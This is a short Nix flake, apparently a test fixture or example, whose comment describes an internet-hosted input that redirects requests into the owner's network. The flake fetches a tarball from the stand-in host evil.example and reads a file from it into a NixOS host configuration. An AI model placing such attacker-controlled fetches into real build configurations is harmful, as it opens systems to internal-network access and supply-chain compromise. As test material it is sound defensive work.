# An input on the internet whose server sends whoever asks into the owner's network.
{
  inputs.nas = { url = "http://evil.example:8000/redirect.tar.gz"; flake = false; };
  outputs = { self, nas }: {
    nixosConfigurations.host = import ../host.nix "host" { parameters = [ (builtins.readFile "${nas}/x") ]; };
  };
}
